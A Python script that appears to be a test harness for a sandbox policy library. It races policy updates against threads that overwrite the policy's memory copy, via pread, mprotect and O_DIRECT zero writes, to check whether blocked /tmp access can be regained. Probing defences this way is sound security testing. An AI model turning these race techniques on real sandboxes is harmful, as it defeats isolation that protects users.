"""A policy is made stricter again and again while other threads get at the place where its copy must lie.

`race.py WAY OFFSET SIZES` says whether /tmp could be read then, and how often somebody came near: by `write` the copy
in which "allow" was found, by `protect` the call that was refused to make what is looked at writable, by `pin` the
zeroes that a device was told to write there (O_DIRECT), as they may arrive after it was looked at. SIZES: of the
engine's request and of what it seals; OFFSET: of the modes therein.
"""

from __future__ import annotations

import contextlib
import ctypes
import mmap
import os
import random
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

SECONDS = 2.0
TIMES = 100
SIX_MODES = b"\2" * 6
PAGE, SECTOR = 4096, 512
LIBC = Path("/usr/lib") / f"{os.uname().machine}-linux-gnu" / "libc.so.6"
READ_WRITE = mmap.PROT_READ | mmap.PROT_WRITE
NO_FILE = ["00000000", "00:00", "0"]  # of a line of /proc/self/maps: offset, device, inode

libc = ctypes.CDLL(None)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, *[ctypes.c_int] * 3, ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
libc.mprotect.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int]
libc.pread.restype = ctypes.c_ssize_t
libc.pread.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t, ctypes.c_long]
libc.shield_configure.argtypes = [ctypes.c_char_p, ctypes.c_ulong, ctypes.c_char_p, ctypes.c_ulong]


def place_of_copies(sizes: list[int]) -> int:
    """Where the kernel will put the last of mappings of these sizes."""
    flags = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS
    places = [libc.mmap(None, size, READ_WRITE, flags, -1, 0) for size in sizes]
    for place, size in zip(places, sizes, strict=True):
        libc.munmap(place, size)
    return places[-1]


def place_of_seal(size: int) -> int:
    """Where what is sealed lies: read-only memory of the library's that no file stands behind."""
    lines = [line.split() for line in Path("/proc/self/maps").read_text().splitlines()]
    places = [tuple(int(end, 16) for end in words[0].split("-")) for words in lines if words[1:] == ["r--p", *NO_FILE]]
    (found,) = [low for low, high in places if high - low in (size, size + PAGE)]
    return found


def place_to_look(size: int) -> int:
    """Where what is to be sealed is looked at: the engine's from the start, in front of such a place of one page."""
    lines = [line.split() for line in Path("/proc/self/maps").read_text().splitlines()]
    places = [tuple(int(end, 16) for end in words[0].split("-")) for words in lines if words[1:] == ["rw-p", *NO_FILE]]
    (place,) = [high - PAGE - size for low, high in places if size < high - low < 2 * size and is_kept(high - PAGE)]
    return place


def is_kept(page: int) -> bool:
    return libc.mprotect(page, PAGE, READ_WRITE) != 0


def find_zeroes() -> int:
    """A sector of libc's file that holds nothing else."""
    content = LIBC.read_bytes()
    return next(at for at in range(0, len(content) - SECTOR, SECTOR) if not any(content[at : at + SECTOR]))


def configure(line: str) -> bool:
    """Whether it was refused."""
    reason = ctypes.create_string_buffer(512)
    return bool(libc.shield_configure(line.encode(), len(line), reason, len(reason)))


def can_read_tmp() -> bool:
    with contextlib.suppress(PermissionError), open("/tmp/there") as file:
        return bool(file.read())
    return False


def entries() -> Iterator[str]:
    """Of policies, each stricter than the one before."""
    for left in range(TIMES, 0, -1):
        yield f"SHIELD_ALLOW_TMP={','.join(f'/tmp/x{i}' for i in range(left))}\n"


class Race:
    def __init__(self, way: str, offset: int, sizes: list[int]) -> None:
        self.run, self.disturb, self.find = {
            "write": (self.write, self.put_modes_there, lambda: place_of_copies(sizes)),
            "protect": (self.protect, self.protect_there, lambda: place_to_look(sizes[1])),
            "pin": (self.pin, self.pin_there, lambda: place_of_copies([PAGE])),
        }[way]
        self.offset, self.size = offset, sizes[-1]
        self.source = os.memfd_create("modes")
        os.write(self.source, SIX_MODES)
        self.device, self.zeroes = os.open(LIBC, os.O_RDONLY | os.O_DIRECT), find_zeroes()
        self.place, self.near, self.ended = 0, 0, threading.Event()

    def put_modes(self, place: int) -> None:
        """By the kernel, which writes nothing where nobody may."""
        libc.pread(self.source, place + self.offset, len(SIX_MODES), 0)

    def write(self) -> bool:
        read, until, turn = False, time.monotonic() + SECONDS, 0
        while time.monotonic() < until and not read:
            self.near += configure("SHIELD_READ_WRITE_TMP=block\n")
            turn += 1
            read = turn % 32 == 0 and can_read_tmp()
        return read

    def put_modes_there(self) -> None:
        self.put_modes(self.place)

    def protect(self) -> bool:
        seal = place_of_seal(self.size)
        for line in entries():
            assert not configure(line)
            self.put_modes(seal)
            if can_read_tmp():
                return True
        return False

    def protect_there(self) -> None:
        self.near += libc.mprotect(self.place, self.size, READ_WRITE) != 0

    def pin(self) -> bool:
        for line in entries():
            while configure(line):  # the zeroes came in time to be seen
                pass
            if can_read_tmp():
                return True
        return False

    def pin_there(self) -> None:
        time.sleep(random.random() * 1e-4)
        self.near += libc.pread(self.device, self.place, SECTOR, self.zeroes) == SECTOR


def main() -> None:
    sys.setswitchinterval(1e-5)
    way, offset, *sizes = sys.argv[1:]
    race = Race(way, int(offset), [int(size) for size in sizes])

    def keep_disturbing() -> None:
        while not race.ended.is_set():
            race.disturb()

    others = [threading.Thread(target=keep_disturbing, daemon=True) for _ in range(8 if way == "pin" else 2)]
    for other in others:
        other.start()
    time.sleep(0.05)
    race.place = race.find()  # only now: a thread's own memory could take the place
    read = race.run()
    race.ended.set()
    for other in others:
        other.join()
    print("read" if read else "held", race.near)


main()
